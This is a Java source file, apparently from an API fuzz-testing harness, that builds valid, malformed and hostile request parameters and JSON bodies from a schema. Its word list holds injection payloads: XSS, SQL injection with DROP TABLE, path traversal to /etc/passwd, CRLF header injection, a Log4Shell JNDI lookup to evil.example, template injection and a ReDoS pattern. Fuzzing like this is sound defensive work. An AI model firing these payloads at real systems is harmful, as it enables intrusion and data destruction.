package io.sallyport.server.boot;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.Random;

/** Parameters and bodies for operations: right ones, nearly right ones and hostile ones. */
final class ApiGuesses {
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  private static final List<String> WORDS =
      List.of(
          "alice",
          "bob",
          "nobody",
          "desk",
          "0",
          "1",
          "-1",
          "99999999999999999999",
          "2026-03-01T08:00:00Z",
          "+999999999-12-31T23:59:59Z",
          "user",
          "audio",
          "internal",
          "case 7, shares",
          "",
          " ",
          "sip:alice@sallyport.localhost",
          "<script>alert(1)</script>",
          "' OR 1=1 --",
          "\"; DROP TABLE users; --",
          "../../../etc/passwd",
          "..\\..\\windows",
          "%00",
          "\u0000",
          "\u202e\u2066evil",
          "\ud800",
          "\r\nSet-Cookie: x=y",
          "${jndi:ldap://evil.example}",
          "{{7*7}}",
          "(a+)+$",
          "field:[* TO *] AND (",
          "\"unclosed",
          "*",
          "?",
          "~",
          "é".repeat(300),
          "x".repeat(5_000));

  private final Random random;
  private final ApiShape shape;

  ApiGuesses(Random random, ApiShape shape) {
    this.random = random;
    this.shape = shape;
  }

  String word() {
    return WORDS.get(random.nextInt(WORDS.size()));
  }

  /** A word that may stand in a path or query. */
  String segment() {
    String word = word();
    String cut = word.length() > 600 ? word.substring(0, 600) : word;
    return cut.isEmpty()
        ? "x"
        : java.net.URLEncoder.encode(cut, java.nio.charset.StandardCharsets.UTF_8)
            .replace("+", "%20");
  }

  /** A body that is as the schema says, or nearly. */
  String body(JsonNode schema) {
    return switch (random.nextInt(8)) {
      case 0 -> "";
      case 1 -> "null";
      case 2 -> "[]";
      case 3 -> "{\"unknown\":1}";
      case 4 -> "{\"a\":" + "[".repeat(random.nextInt(200));
      default -> value(schema, 0).toString();
    };
  }

  private JsonNode value(JsonNode schema, int depth) {
    JsonNode is = shape.resolved(schema);
    if (random.nextInt(20) == 0) {
      return anything();
    }
    if (is.has("enum")) {
      JsonNode words = is.get("enum");
      return words.get(random.nextInt(words.size()));
    }
    return switch (is.path("type").asText()) {
      case "integer" -> NODES.numberNode(number());
      case "number" -> NODES.numberNode(random.nextGaussian() * 1e6);
      case "boolean" -> NODES.booleanNode(random.nextBoolean());
      case "array" -> array(is, depth);
      case "object" -> object(is, depth);
      default -> NODES.textNode(word());
    };
  }

  private long number() {
    return switch (random.nextInt(5)) {
      case 0 -> 0;
      case 1 -> Long.MAX_VALUE;
      case 2 -> Long.MIN_VALUE;
      case 3 -> random.nextLong();
      default -> random.nextInt(100);
    };
  }

  private JsonNode anything() {
    return switch (random.nextInt(5)) {
      case 0 -> NODES.nullNode();
      case 1 -> NODES.numberNode(random.nextLong());
      case 2 -> NODES.arrayNode().add(1);
      case 3 -> NODES.objectNode().put("x", "y");
      default -> NODES.textNode(word());
    };
  }

  private JsonNode array(JsonNode is, int depth) {
    ArrayNode array = NODES.arrayNode();
    for (int i = random.nextInt(4); i > 0 && depth < 4; i--) {
      array.add(value(is.get("items"), depth + 1));
    }
    return array;
  }

  private JsonNode object(JsonNode is, int depth) {
    ObjectNode object = NODES.objectNode();
    is.path("properties")
        .properties()
        .forEach(
            field -> {
              if (depth < 4 && random.nextInt(6) > 0) {
                object.set(field.getKey(), value(field.getValue(), depth + 1));
              }
            });
    return object;
  }
}
